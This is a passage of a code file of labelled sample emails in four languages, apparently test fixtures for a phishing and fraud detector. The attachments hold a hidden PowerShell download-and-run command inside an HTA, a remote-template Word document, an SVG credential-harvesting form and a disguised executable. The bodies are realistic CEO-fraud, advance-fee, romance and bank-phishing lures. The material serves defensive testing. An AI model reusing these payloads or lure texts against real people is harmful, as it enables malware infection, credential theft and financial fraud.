        'Cláudia, bom dia.\n\nEstou numa reunião com os advogados a fechar a aquisição de uma empresa em Espanha e preciso da sua ajuda com discrição total: o assunto ainda não pode ser comunicado ao resto da equipa.\n\nPreciso que faça hoje uma transferência de 48.500,00 € como sinal. Envio-lhe já o IBAN e a referência. Consegue tratar antes das 15h?\n\nResponda só para este e-mail, não me ligue porque estou em reunião.\n\nObrigado,\nLuís Pacheco\nAdministrador\n\nEnviado do meu iPhone',
      ),
    }),
  },
  {
    // An HTA in a ZIP, the mshta route many Portuguese-speaking banking trojans still use.
    name: 'Fatura-recibo em ZIP com um ficheiro .hta que descarrega um trojan bancário',
    lang: 'pt-PT',
    lure: 'malware',
    expect: ['malware'],
    raw: mail({
      from: 'Contabilidade <geral@contabilidade-matosvaz.pt>',
      to: 'geral@padariaestrelinha.pt',
      subject: 'Fatura-recibo FR 2025/1187 em anexo',
      date: 'Mon, 7 Jul 2025 09:14:33 +0100',
      messageId: '5d8e2a7c1f9b@contabilidade-matosvaz.pt',
      dkim: ['contabilidade-matosvaz.pt:default'],
      relay: 'cpanel03.ptisp.pt [192.0.2.73]',
      body: multipart('mixed', [
        plain('Bom dia,\n\nEnviamos em anexo a fatura-recibo FR 2025/1187 referente aos serviços de junho.\n\nCom os melhores cumprimentos,\nContabilidade'),
        attachment(
          'FR_2025_1187.zip',
          'application/zip',
          zip({
            'FR_2025_1187.hta':
              '<html><head><HTA:APPLICATION id="f" windowstate="minimize"><script language="VBScript">Set s = CreateObject("WScript.Shell")\ns.Run "powershell -w hidden -c ""iwr https://cdn-faturas.icu/p.txt -useb | iex""", 0\nself.close</script></head><body></body></html>',
          }),
        ),
      ]),
    }),
  },
  {
    // Lottery advance fee in Portugal: a Euromilhões "prémio de clientes" released after a fee.
    name: 'Euromilhões: "prémio de 850.000 € num sorteio de e-mails", pagar a taxa de selo antes da transferência',
    lang: 'pt-PT',
    lure: 'advance-fee',
    expect: ['fraud'],
    raw: mail({
      from: 'Departamento de Prémios <premios.euromilhoes.pt@gmail.com>',
      to: 'manuela.teixeira@netcabo.pt',
      subject: 'Notificação oficial de prémio – Ref. EM/2025/8841',
      date: 'Fri, 21 Nov 2025 14:37:51 +0000',
      messageId: 'CAK7r2Lq9Mx4Tz1Vb8Pn5Wc3Hd6Jf0Gs@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-ed1-f46.google.com [209.85.208.46]',
      body: gmailBody(
        'Exma. Senhora Manuela Teixeira,\n\nTemos o prazer de informar que o seu endereço de e-mail foi selecionado no sorteio internacional de endereços eletrónicos associado ao Euromilhões, com o prémio de 850.000,00 € (oitocentos e cinquenta mil euros).\n\nPara que a transferência seja efetuada, deverá pagar previamente o imposto do selo e as despesas de processamento, no valor de 1.240,00 €, e enviar-nos uma cópia do cartão de cidadão e o IBAN.\n\nO prémio deve ser reclamado no prazo de 10 dias, caso contrário reverte para o próximo sorteio. Mantenha esta notificação confidencial.\n\nCom os melhores cumprimentos,\nDr. Rui Antunes\nGestor de Prémios',
      ),
    }),
  },
  // ---------------------------------------------------------------- German
  {
    // A Volksbank look-alike: the SecureGo plus app "must be re-registered" on a .icu page that
    // collects the online-banking login and the activation code.
    name: 'Volksbank: VR SecureGo plus muss neu registriert werden, sonst Sperre des Onlinebankings (.icu)',
    lang: 'de',
    lure: 'bank',
    expect: ['phishing'],
    raw: mail({
      from: 'Volksbank Raiffeisenbank <service@vr-securego-aktualisierung.icu>',
      to: 'h.baumgartner@t-online.de',
      subject: 'Wichtig: Neuregistrierung VR SecureGo plus bis 28.03.2025',
      date: 'Tue, 25 Mar 2025 07:49:12 +0100',
      messageId: '67e2d1e8.3a9c71@vr-securego-aktualisierung.icu',
      relay: 'mx.vr-securego-aktualisierung.icu [203.0.113.119]',
      auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
      body: document(
        [
          'Sehr geehrte Kundin, sehr geehrter Kunde,',
          'aufgrund der neuen Sicherheitsrichtlinien der Europäischen Bankenaufsicht muss die App VR SecureGo plus bis zum 28.03.2025 neu registriert werden. Nicht registrierte Geräte werden danach gesperrt und Überweisungen im Onlinebanking sind nicht mehr möglich.',
          'Die Neuregistrierung dauert nur wenige Minuten:',
          { button: 'Jetzt neu registrieren', href: 'https://vr-securego-aktualisierung.icu/banking/registrierung' },
          'Mit freundlichen Grüßen\nIhre Volksbank Raiffeisenbank',
        ],
        { lang: 'de' },
      ),
    }),
  },
  {
    // ELSTER certificate "expiring": a .top page collects the certificate file and its PIN.
    name: 'ELSTER: Ihr Zertifikat läuft ab, Verlängerung mit Zertifikatsdatei und PIN auf einer .top-Seite',
    lang: 'de',
    lure: 'tax',
    expect: ['phishing'],
    raw: mail({
      from: 'ELSTER - Ihr Online-Finanzamt <noreply@elster-zertifikat.top>',
      to: 'sabine.krueger@gmx.de',
      subject: 'Ihr ELSTER-Zertifikat läuft in 3 Tagen ab',
      date: 'Thu, 10 Jul 2025 18:12:45 +0200',
      messageId: '20250710161245.88c2@elster-zertifikat.top',
      relay: 'server1.elster-zertifikat.top [198.51.100.171]',
      auth: { dkim: 'none', spf: 'softfail', dmarc: 'none' },
      body: document(
        [
          'Sehr geehrte Nutzerin, sehr geehrter Nutzer,',
          'Ihr Zertifikat für Mein ELSTER läuft am 13.07.2025 ab. Nach Ablauf können Sie keine Steuererklärung mehr abgeben und laufende Erstattungen werden angehalten.',
          'Bitte verlängern Sie Ihr Zertifikat rechtzeitig. Halten Sie dazu Ihre Zertifikatsdatei (.pfx) und Ihr Passwort bereit.',
          { button: 'Zertifikat verlängern', href: 'https://elster-zertifikat.top/eportal/verlaengerung' },
          'Ihr ELSTER-Team\nBayerisches Landesamt für Steuern',
        ],
        { lang: 'de' },
      ),
    }),
  },
  {
    // Deutschlandticket subscription "payment failed", sent through Amazon SES from a new
    // domain: the card page renews nothing.
    name: 'Deutschlandticket: Abbuchung fehlgeschlagen, Ticket wird gesperrt, Zahlungsdaten über Amazon SES erneuern',
    lang: 'de',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: mail({
      from: 'Deutschlandticket Abo-Service <abo@dticket-aboservice.de.com>',
      to: 'lukas.hartmann93@web.de',
      subject: 'Zahlung fehlgeschlagen – Ihr Deutschlandticket wird zum 01.10. gesperrt',
      date: 'Fri, 26 Sep 2025 16:20:33 +0000',
      messageId: '01070199867a4c21-5e8b2d9a-7c3f-4a1e-b6d2-9f0e1c8a3b47-000000@eu-west-1.amazonses.com',
      dkim: ['dticket-aboservice.de.com:k7xq2m4r', 'amazonses.com:shh3fegwg5fppqsuzphvschd53n6ihuv'],
      returnPath: '01070199867a4c21-5e8b2d9a-7c3f-4a1e-b6d2-9f0e1c8a3b47-000000@eu-west-1.amazonses.com',
      relay: 'b224-17.smtp-out.eu-west-1.amazonses.com [54.240.4.17]',
      headers: sesHeaders('eu-west-1', '1.eu-west-1.Lm7Qx2Tz9Rk4Vb1Wn8Pc3Hd5Fj6As0Gy=', '2025.09.26-54.240.4.17'),
      body: document(
        [
          { heading: 'Ihre Zahlung konnte nicht verarbeitet werden' },
          'Hallo,',
          'die Abbuchung für Ihr Deutschlandticket (58,00 €) für Oktober ist fehlgeschlagen. Ohne gültige Zahlungsdaten wird Ihr Ticket zum 01.10.2025 gesperrt und eine Rücklastschriftgebühr von 9,50 € erhoben.',
          { button: 'Zahlungsdaten aktualisieren', href: 'https://dticket-aboservice.de.com/konto/zahlung' },
          { small: 'Deutschlandticket Abo-Service · Diese E-Mail wurde automatisch erstellt.' },
        ],
        { lang: 'de' },
      ),
    }),
  },
  {
    // Kleinanzeigen "Sicher bezahlen" fraud: the buyer's fake payment page asks the seller
    // for the card to "receive" the money.
    name: 'Kleinanzeigen nachgeahmt: "Käufer hat über Sicher bezahlen 240 € gezahlt", Geld mit Kartendaten "empfangen"',
    lang: 'de',
    lure: 'payment-app',
    expect: ['phishing'],
    raw: mail({
      from: 'Kleinanzeigen <sicher-bezahlen@kleinanzeigen-zahlung.xyz>',
      to: 'jan.petersen.kiel@gmail.com',
      subject: 'Zahlung erhalten: 240,00 € für „Kinderfahrrad Puky 20 Zoll“',
      date: 'Sat, 12 Apr 2025 20:05:44 +0200',
      messageId: 'c7a2e91f-3b4d-4e8a-9c1b-6f0e2d8a1b35@kleinanzeigen-zahlung.xyz',
      relay: 'mail.kleinanzeigen-zahlung.xyz [203.0.113.9]',
      auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
      body: document(
        [
          { heading: 'Der Käufer hat bezahlt' },
          'Hallo Jan,',
          'der Käufer hat für Deinen Artikel „Kinderfahrrad Puky 20 Zoll“ 240,00 € inklusive Versand über „Sicher bezahlen“ bezahlt. Um das Geld zu erhalten, bestätige bitte Deine Karte. Anschließend holt DHL das Paket bei Dir ab.',
          { button: 'Zahlung empfangen', href: 'https://kleinanzeigen-zahlung.xyz/sicher-bezahlen/empfangen?a=2891174' },
          { small: 'Kleinanzeigen · Die Zahlung verfällt nach 24 Stunden.' },
        ],
        { lang: 'de' },
      ),
    }),
  },
  {
    // Fake-president fraud in German: the "CEO" announces a confidential acquisition and a
    // lawyer who will call; the reader must keep quiet and pay.
    name: 'CEO-Betrug: "Geschäftsführer" kündigt vertrauliche Übernahme an, Anwalt meldet sich, Überweisung heute',
    lang: 'de',
    lure: 'bec',
    expect: ['fraud'],
    raw: mail({
      from: 'Dr. Martin Steiner <m.steiner.gf@mail.de>',
      to: 'Petra Vogel <p.vogel@steiner-feinmechanik.de>',
      subject: 'Vertraulich – Projekt Adler',
      date: 'Mon, 1 Sep 2025 10:03:28 +0200',
      messageId: 'trinity-4e8a2c71-9b3d-4f6e-a1c5-2d0b9e7f4a36-1756713808123@3c-app-mailcom-bs14',
      dkim: ['mail.de:mail-2025'],
      relay: 'shout02.mail.de [62.201.172.57]',
      body: plain(
        'Frau Vogel,\n\nich benötige heute Ihre Unterstützung in einer streng vertraulichen Angelegenheit. Wir stehen kurz vor der Übernahme eines Wettbewerbers in der Schweiz (Projekt Adler). Die Finanzaufsicht verlangt bis zur offiziellen Bekanntgabe absolute Verschwiegenheit, auch gegenüber Kollegen.\n\nRechtsanwalt Dr. Keller von der Kanzlei Bär & Partner wird Sie in Kürze anrufen und Ihnen die Kontodaten für die Anzahlung von 186.000 € durchgeben. Bitte führen Sie die Überweisung heute noch aus.\n\nIch bin den ganzen Tag in Verhandlungen und nur per E-Mail erreichbar. Bitte antworten Sie nur an diese Adresse.\n\nMit freundlichen Grüßen\nDr. Martin Steiner\nGeschäftsführer',
      ),
    }),
  },
  {
    // Template injection: a clean-looking .docx whose settings load a remote template (with
    // the macro or exploit) from the attacker's server when opened.
    name: 'Rechnung als .docx mit externer Dokumentvorlage von einem fremden Server (Template-Injection)',
    lang: 'de',
    lure: 'malware',
    expect: ['malware'],
    raw: mail({
      from: 'Buchhaltung Weber Haustechnik <buchhaltung@weber-haustechnik.de>',
      to: 'info@autohaus-lindner.de',
      subject: 'Rechnung Nr. 2025-3318',
      date: 'Wed, 29 Oct 2025 08:37:02 +0100',
      messageId: '8f1c7e2a4b9d3e60@weber-haustechnik.de',
      dkim: ['weber-haustechnik.de:default'],
      relay: 'mout.kundenserver.de [212.227.126.187]',
      body: multipart('mixed', [
        plain(
          'Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie unsere Rechnung Nr. 2025-3318 über die Wartungsarbeiten vom 20.10.2025.\n\nBitte aktivieren Sie beim Öffnen die Bearbeitung, damit die Rechnung korrekt angezeigt wird.\n\nMit freundlichen Grüßen\nBuchhaltung\nWeber Haustechnik GmbH',
        ),
        attachment(
          'Rechnung_2025-3318.docx',
          'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
          remoteTemplateDocx('http://198.51.100.24/templates/rechnung.dotm'),
        ),
      ]),
    }),
  },
  {
    // Recovery scam: victims of earlier investment fraud are offered help to get the money back
    // by a "Kanzlei", for an upfront fee.
    name: 'Rückholungsbetrug: "Kanzlei" verspricht, verlorenes Krypto-Geld zurückzuholen, gegen Vorabgebühr',
    lang: 'de',
    lure: 'advance-fee',
    expect: ['fraud'],
    raw: mail({
      from: 'Kanzlei Brandt & Voss <mandate@brandt-voss-recht.eu>',
      to: 'werner.schaefer57@gmx.net',
      subject: 'Ihr Fall: Rückforderung Ihrer Verluste bei Trading-Plattformen',
      date: 'Tue, 18 Nov 2025 11:44:19 +0100',
      messageId: '20251118104419.3c7e@brandt-voss-recht.eu',
      dkim: ['brandt-voss-recht.eu:mail'],
      relay: 'mail.brandt-voss-recht.eu [192.0.2.15]',
      auth: { dmarc: 'none' },
      body: plain(
        'Sehr geehrter Herr Schäfer,\n\nim Rahmen einer internationalen Ermittlung gegen betrügerische Online-Trading-Plattformen wurden uns Ihre Daten als geschädigter Anleger übermittelt. Nach unseren Unterlagen haben Sie 2023 und 2024 insgesamt 38.700 € verloren.\n\nUnsere Kanzlei hat bereits über 1.200 Mandanten zu ihrem Geld verholfen. Die Gelder aus Ihrem Fall sind bei einer Partnerbank eingefroren und können innerhalb von 14 Tagen an Sie ausgezahlt werden.\n\nFür die Eröffnung des Verfahrens fällt lediglich eine Bearbeitungsgebühr von 1.450 € an, die per Überweisung oder in USDT beglichen werden kann. Alle weiteren Kosten werden erst nach erfolgreicher Rückzahlung fällig.\n\nBitte antworten Sie innerhalb von 5 Tagen, damit wir Ihren Fall vor Fristablauf einreichen können.\n\nMit freundlichen Grüßen\nRA Dr. Thomas Brandt',
      ),
    }),
  },
  // ---------------------------------------------------------------- French
  {
    // Free-flow motorway tolls (A79, A13–A14) made a new pretext: an unpaid "péage sans
    // barrière" with a surcharge, on a throw-away domain.
    name: "Péage sans barrière : passage non payé sur l'A79, 7,40 € à régler avant majoration de 90 €",
    lang: 'fr',
    lure: 'authority',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'Service Péage Flux Libre <avis@peage-fluxlibre-paiement.icu>',
      to: 'nathalie.giraud@orange.fr',
      subject: 'Avis de passage non réglé – A79',
      date: 'Wed, 2 Jul 2025 09:31:16 +0200',
      messageId: '6864df54.5a1c@peage-fluxlibre-paiement.icu',
      relay: 'smtp.peage-fluxlibre-paiement.icu [198.51.100.33]',
      auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
      body: document(
        [
          { heading: 'Passage non réglé' },
          'Madame, Monsieur,',
          "Votre véhicule a emprunté le 24/06/2025 un tronçon à péage en flux libre de l'autoroute A79. Le montant de 7,40 € n'a pas été réglé dans le délai de 72 heures.",
          'Sans paiement sous 5 jours, une indemnité forfaitaire de 90 € sera appliquée et le dossier transmis au Trésor public.',
          { button: 'Régler mon passage', href: 'https://peage-fluxlibre-paiement.icu/paiement?dossier=A79-2406-88172' },
          { small: 'Service Client Péage Flux Libre. Ceci est un message automatique.' },
        ],
        { lang: 'fr' },
      ),
    }),
  },
  {
    // CAF "prime d'activité revalorisée": the RIB and the FranceConnect login on a .top page.
    name: "CAF : prime d'activité revalorisée, mettre à jour le RIB via une fausse page FranceConnect",
    lang: 'fr',
    lure: 'authority',
    expect: ['phishing'],
    raw: mail({
      from: "Caisse d'Allocations Familiales <ne-pas-repondre@caf-allocataires.top>",
      to: 'sophie.lambert84@laposte.net',
      subject: "Revalorisation de votre prime d'activité",
      date: 'Mon, 14 Apr 2025 10:02:59 +0200',
      messageId: '20250414080259.c3a9@caf-allocataires.top',
      relay: 'mail.caf-allocataires.top [203.0.113.143]',
      auth: { dkim: 'none', spf: 'softfail', dmarc: 'none' },
      body: document(
        [
          'Madame, Monsieur,',
          "Suite à la revalorisation du 1er avril 2025, un complément de 186,23 € vous est dû au titre de la prime d'activité.",
          'Pour recevoir ce versement, veuillez vérifier vos coordonnées bancaires (RIB) dans votre espace Mon Compte en vous connectant avec FranceConnect avant le 18 avril.',
          { button: 'Accéder à Mon Compte', href: 'https://caf-allocataires.top/moncompte/franceconnect' },
          'Votre Caf',
        ],
        { lang: 'fr' },
      ),
    }),
  },
  {
    // Paylib's move to Wero in 2024–2025 gave a pretext: "activate Wero or lose Paylib", with
    // the online-banking login and the card.
    name: 'Wero : « activez votre compte avant la fermeture de Paylib », identifiants bancaires et carte sur un .sbs',
    lang: 'fr',
    lure: 'payment-app',
    expect: ['phishing'],
    raw: mail({
      from: 'Wero <activation@wero-paiements-fr.sbs>',
      to: 'julien.moreau@free.fr',
      subject: 'Paylib devient Wero : activation obligatoire avant le 30 novembre',
      date: 'Thu, 20 Nov 2025 12:15:03 +0100',
      messageId: '691ef5c7.b2e4@wero-paiements-fr.sbs',
      relay: 'vps.wero-paiements-fr.sbs [198.51.100.94]',
      auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
      body: document(
        [
          { heading: 'Paylib devient Wero' },
          'Bonjour,',
          "Le service Paylib entre amis sera définitivement fermé le 30 novembre. Pour continuer à envoyer et recevoir de l'argent, activez votre compte Wero en quelques clics : identifiez votre banque, connectez-vous avec vos identifiants habituels et confirmez votre carte.",
          { button: 'Activer Wero', href: 'https://wero-paiements-fr.sbs/activation' },
          { small: "Wero est un service d'EPI Company. Sans activation, les paiements en attente seront annulés." },
        ],
        { lang: 'fr' },
      ),
    }),
  },
  {
    // Webmail closure on an Orange mailbox, the form hosted as a public Notion page.
    name: 'Orange Mail : « votre messagerie sera fermée », confirmer le mot de passe sur une page Notion',
    lang: 'fr',
    lure: 'mailbox',
    expect: ['phishing'],
    raw: mail({
      from: 'Orange Messagerie <messagerie.orange.info@gmail.com>',
      to: 'bernard.lefebvre@orange.fr',
      subject: 'Dernier avis : fermeture de votre boîte Orange',
      date: 'Tue, 9 Sep 2025 07:40:25 +0200',
      messageId: 'CAH2p9Lq4Rk7Mz1Xb8Vn3Tc5Hp6Jd0Gs@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-wr1-f53.google.com [209.85.221.53]',
      body: document(
        [
          'Cher(e) client(e),',
          'Suite à la mise à jour de nos serveurs, les messageries non vérifiées seront fermées le 12 septembre et tous les messages supprimés.',
          'Pour conserver votre adresse bernard.lefebvre@orange.fr, confirmez votre identifiant et votre mot de passe :',
          {
            button: 'Conserver ma messagerie',
            href: 'https://orange-messagerie-verification.notion.site/Confirmation-de-votre-compte-1c7e2a914b8d4f6ea1c59d0b2e7f4a36',
          },
          "L'équipe Orange",
        ],
        { lang: 'fr' },
      ),
    }),
  },
  {
    // Callback fraud in French: a fake Amazon order confirmation with a phone number only.
    name: "Fausse commande Amazon d'un iPhone à 1 249 € depuis Gmail, sans lien : « appelez pour annuler »",
    lang: 'fr',
    lure: 'callback',
    expect: ['fraud'],
    raw: mail({
      from: 'Service Commandes <confirmation.commande.fr@gmail.com>',
      to: 'monique.dupuis@wanadoo.fr',
      subject: 'Votre commande n° 402-7731845-2219 a été expédiée',
      date: 'Fri, 31 Oct 2025 18:27:44 +0100',
      messageId: 'CAB8w1Lq3Rk6Mz9Xb2Vn7Tc4Hp5Jd0Gs@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-wm1-f52.google.com [209.85.128.52]',
      body: gmailBody(
        "Bonjour,\n\nNous vous confirmons l'expédition de votre commande :\n\nArticle : Apple iPhone 16 Pro Max 512 Go – Titane naturel\nMontant : 1 249,00 € TTC\nPaiement : carte bancaire enregistrée\nLivraison prévue : lundi 3 novembre\nAdresse : Paris 75011\n\nSi vous n'êtes pas à l'origine de cette commande, contactez immédiatement notre service d'annulation au 01 84 88 47 20 (appel gratuit) afin de bloquer l'expédition et d'obtenir le remboursement.\n\nCordialement,\nService Client",
      ),
    }),
  },
  {
    // A ZIP holding a .scr "scan" from a compromised small business: an executable screen saver.
    name: "Bon de commande en ZIP contenant un économiseur d'écran .scr (exécutable) depuis une PME compromise",
    lang: 'fr',
    lure: 'malware',
    expect: ['malware'],
    raw: mail({
      from: 'Service Achats <achats@menuiserie-roussel.fr>',
      to: 'commercial@quincaillerie-blanchard.fr',
      subject: 'Bon de commande BC-2025-0612',
      date: 'Thu, 12 Jun 2025 14:55:37 +0200',
      messageId: '2b9e7c1a4f3d8e05@menuiserie-roussel.fr',
      dkim: ['menuiserie-roussel.fr:ovhmo1234567-selector1'],
      relay: 'mo4-p00-ob.smtp.rzone.de [192.0.2.181]',
      body: multipart('mixed', [
        plain(
          'Bonjour,\n\nVeuillez trouver ci-joint notre bon de commande BC-2025-0612. Merci de nous confirmer les délais et les prix.\n\nCordialement,\nService Achats\nMenuiserie Roussel',
        ),
        attachment(
          'BC-2025-0612.zip',
          'application/zip',
          zip({
            'BC-2025-0612_scan.pdf.scr': Uint8Array.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xff, 0xff, 0x00, 0x00]),
          }),
        ),
      ]),
    }),
  },
  {
    // Romance fraud ("brouteur"): a woman met online is "stuck at customs in Abidjan" and
    // asks for a transfer to free her luggage and come to France.
    name: "Arnaque aux sentiments : « bloquée à la douane d'Abidjan », 1 800 € par Western Union pour venir en France",
    lang: 'fr',
    lure: 'romance',
    expect: ['fraud'],
    raw: mail({
      from: 'Clarisse Dubois <clarisse.dubois1987@yahoo.com>',
      to: 'gerard.poulain@sfr.fr',
      subject: "Mon cœur, j'ai besoin de toi",
      date: 'Sun, 16 Mar 2025 23:12:08 +0000',
      messageId: '1742166728.4471.yahoo@mail.yahoo.com',
      dkim: ['yahoo.com:s2048'],
      relay: 'sonic307-21.consmr.mail.ir2.yahoo.com [77.238.176.149]',
      body: plain(
        "Mon amour Gérard,\n\nJe suis à l'aéroport d'Abidjan et tout va mal. Les douaniers ont bloqué mes bagages avec les papiers de l'héritage de ma mère et ils demandent 1 800 € de frais de dédouanement, sinon je ne peux pas prendre l'avion pour te rejoindre à Angers samedi.\n\nJ'ai honte de te demander ça, mon cœur, tu sais que je t'aime plus que tout. Je te rembourserai dès que je serai en France, avec l'argent de l'héritage.\n\nEnvoie l'argent par Western Union au nom de mon transitaire, M. Koffi Yao, à Abidjan, et envoie-moi le code MTCN. S'il te plaît, fais vite, l'avion part demain soir. Ne dis rien à ta sœur, elle ne comprendrait pas notre amour.\n\nJe t'embrasse fort,\nTa Clarisse",
      ),
    }),
  },
  // ---------------------------------------------------------------- Dutch
  {
    // A refund ("teruggave") instead of a debt: the Belastingdienst look-alike asks for DigiD
    // and IBAN on a .cfd page.
    name: 'Belastingdienst: teruggave van € 327 over 2024, inloggen met DigiD en IBAN bevestigen op een .cfd',
    lang: 'nl',
    lure: 'tax',
    expect: ['phishing'],
    raw: mail({
      from: 'Belastingdienst <noreply@mijnbelastingdienst-teruggave.cfd>',
      to: 'e.vandijk@ziggo.nl',
      subject: 'U heeft recht op een teruggave',
      date: 'Wed, 11 Jun 2025 09:48:20 +0200',
      messageId: '6849353c.1f7a@mijnbelastingdienst-teruggave.cfd',
      relay: 'mail.mijnbelastingdienst-teruggave.cfd [203.0.113.224]',
      auth: { dkim: 'none', spf: 'softfail', dmarc: 'none' },
      body: document(
        [
          'Geachte heer/mevrouw,',
          'Na de definitieve berekening van uw aangifte inkomstenbelasting 2024 heeft u recht op een teruggave van € 327,00.',
          'Om de teruggave te ontvangen, logt u in met DigiD en controleert u uw rekeningnummer. Doet u dit niet binnen 14 dagen, dan vervalt uw recht op uitbetaling.',
          { button: 'Teruggave aanvragen', href: 'https://mijnbelastingdienst-teruggave.cfd/digid/inloggen' },
          'Met vriendelijke groet,\nBelastingdienst',
        ],
        { lang: 'nl' },
      ),
    }),
  },
  {
    // A "periodic customer review" (Wwft) as the pretext: ABN AMRO blocks the account unless
    // the reader logs in and answers, sent through a hijacked Brevo account.
    name: 'ABN AMRO: verplichte klantgegevenscontrole (Wwft), anders blokkade, via de gekaapte Brevo-account van een kapsalon',
    lang: 'nl',
    lure: 'bank',
    expect: ['phishing'],
    raw: mail({
      from: 'ABN AMRO <info@kapsalonmirella.nl>',
      to: 'r.bakker1968@kpnmail.nl',
      subject: 'Actie vereist: controle van uw klantgegevens',
      date: 'Tue, 4 Mar 2025 14:07:39 +0100',
      messageId: '202503041307.88130144212@smtp-relay.mailin.fr',
      dkim: ['kapsalonmirella.nl:mail', 'sendibm2.com:mail'],
      returnPath: 'bounces-8813014-r.bakker1968=kpnmail.nl@sendibm2.com',
      relay: 'm201.sendibm2.com [77.32.148.201]',
      headers: brevoHeaders('8813014', 'q2Lm9Rz4Wt1Xb8Vc3NpK7y'),
      body: document(
        [
          { heading: 'Controle klantgegevens' },
          'Geachte klant,',
          'Op grond van de Wet ter voorkoming van witwassen en financieren van terrorisme (Wwft) zijn wij verplicht uw gegevens periodiek te controleren. Wij hebben uw gegevens nog niet ontvangen.',
          'Rond de controle vóór 7 maart af. Daarna worden uw betaalrekening en Mobiel Bankieren tijdelijk geblokkeerd.',
          { button: 'Controle starten', href: 'https://8813014.r.af.d.sendibt2.com/tr/cl/k2Lm9Rz4Wt1Xb8Vc3NpK7yQd' },
          { small: 'Kapsalon Mirella · Dorpsstraat 18, Zeist. Afmelden.' },
        ],
        { lang: 'nl' },
      ),
    }),
  },
  {
    // Marktplaats "Gelijk Oversteken": the buyer's fake payment page wants the seller's bank
    // login to release the money.
    name: 'Marktplaats nagemaakt: "de koper heeft betaald via Gelijk Oversteken", geld ontvangen met de bankapp',
    lang: 'nl',
    lure: 'payment-app',
    expect: ['phishing'],
    raw: mail({
      from: 'Marktplaats <betalingen@marktplaats-gelijkoversteken.top>',
      to: 'sanne.devries@gmail.com',
      subject: 'Je hebt een betaling ontvangen van € 65,00',
      date: 'Sat, 18 Oct 2025 11:23:51 +0200',
      messageId: 'f2c9a1e7-3b4d-4e8a-9c1b-6f0e2d8a1b77@marktplaats-gelijkoversteken.top',
      relay: 'mx.marktplaats-gelijkoversteken.top [198.51.100.6]',
      auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
      body: document(
        [
          { heading: 'Betaling ontvangen' },
          'Hoi Sanne,',
          'De koper heeft € 65,00 betaald voor je advertentie "Kinderwagen Joolz Day+" via Gelijk Oversteken. Het bedrag staat klaar. Kies je bank en log in om het geld op je rekening te ontvangen.',
          { button: 'Geld ontvangen', href: 'https://marktplaats-gelijkoversteken.top/ontvangen?adv=m2188473920' },
          { small: 'Marktplaats B.V. · Het bedrag blijft 24 uur gereserveerd.' },
        ],
        { lang: 'nl' },
      ),
    }),
  },
  {
    // Health insurer refund: "premieteruggave" with iDEAL bank login, from a free Outlook.
    name: 'Zilveren Kruis: premieteruggave van € 142,80, "bevestig via iDEAL" vanaf een gratis Outlook-adres',
    lang: 'nl',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: mail({
      from: 'Zilveren Kruis Klantenservice <zilverenkruis.klantenservice@outlook.com>',
      to: 'h.jansen@hetnet.nl',
      subject: 'Uw premieteruggave staat klaar',
      date: 'Mon, 20 Jan 2025 16:41:12 +0000',
      messageId: 'AS8P189MB1720C4E1A9F3B5D72E8C0A6F2B4D1@AS8P189MB1720.EURP189.PROD.OUTLOOK.COM',
      dkim: ['outlook.com:selector1'],
      relay: 'mail-am6eur05olkn2041.outbound.protection.outlook.com [40.92.91.41]',
      body: document(
        [
          'Beste verzekerde,',
          'Door een wijziging in uw eigen risico over 2024 heeft u te veel premie betaald. U ontvangt € 142,80 terug.',
          'Bevestig uw rekening met een iDEAL-betaling van € 0,01, dan storten wij het bedrag binnen 3 werkdagen:',
          { button: 'Teruggave ontvangen', href: 'https://zk-premieteruggave.xyz/ideal' },
          'Met vriendelijke groet,\nZilveren Kruis',
        ],
        { lang: 'nl' },
      ),
    }),
  },
  {
    // An SVG attachment that is itself the phishing page: a Microsoft sign-in form drawn in a
    // foreignObject, posting to the criminal.
    name: 'Factuur als .svg-bijlage met een ingebouwd Microsoft-inlogformulier dat naar een externe server post',
    lang: 'nl',
    lure: 'html-attachment',
    expect: ['phishing', 'malware'],
    raw: mail({
      from: 'Administratie <administratie@installatiebedrijf-smit.nl>',
      to: 'crediteuren@bouwbedrijf-hendriks.nl',
      subject: 'Openstaande factuur 25-0417',
      date: 'Thu, 17 Apr 2025 10:58:03 +0200',
      messageId: 'AM0PR09MB4471E2C9A1F7B3D05A8C4E6F1D0B9@AM0PR09MB4471.eurprd09.prod.outlook.com',
      dkim: ['installatiebedrijf-smit.nl:selector1'],
      relay: 'mail-he1eur04on2112.outbound.protection.outlook.com [40.107.7.112]',
      body: multipart('mixed', [
        plain(
          'Goedemorgen,\n\nIn de bijlage vindt u factuur 25-0417, die nog openstaat. Open de bijlage in uw browser en log in om de factuur te bekijken.\n\nMet vriendelijke groet,\nAdministratie\nInstallatiebedrijf Smit',
        ),
        attachment(
          'Factuur_25-0417.svg',
          'image/svg+xml',
          `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="480" height="360"><rect width="480" height="360" fill="#ffffff"/>
<foreignObject x="40" y="30" width="400" height="300"><div xmlns="http://www.w3.org/1999/xhtml" style="font-family:Segoe UI">
<p><b>Microsoft</b></p><p>Meld u aan om het document te bekijken</p>
<form action="https://doc-login-secure.cfd/post.php" method="POST"><input name="login" value="crediteuren@bouwbedrijf-hendriks.nl"/><br/><input name="passwd" type="password" placeholder="Wachtwoord"/><br/><button type="submit">Aanmelden</button></form>
</div></foreignObject></svg>`,
        ),
      ]),
    }),
  },
  {
    // Dutch sextortion that quotes an old leaked password in the subject.
    name: 'Sextortion in het Nederlands met het gelekte wachtwoord in de onderwerpregel en een bitcoinadres',
    lang: 'nl',
    lure: 'sextortion',
    expect: ['fraud'],
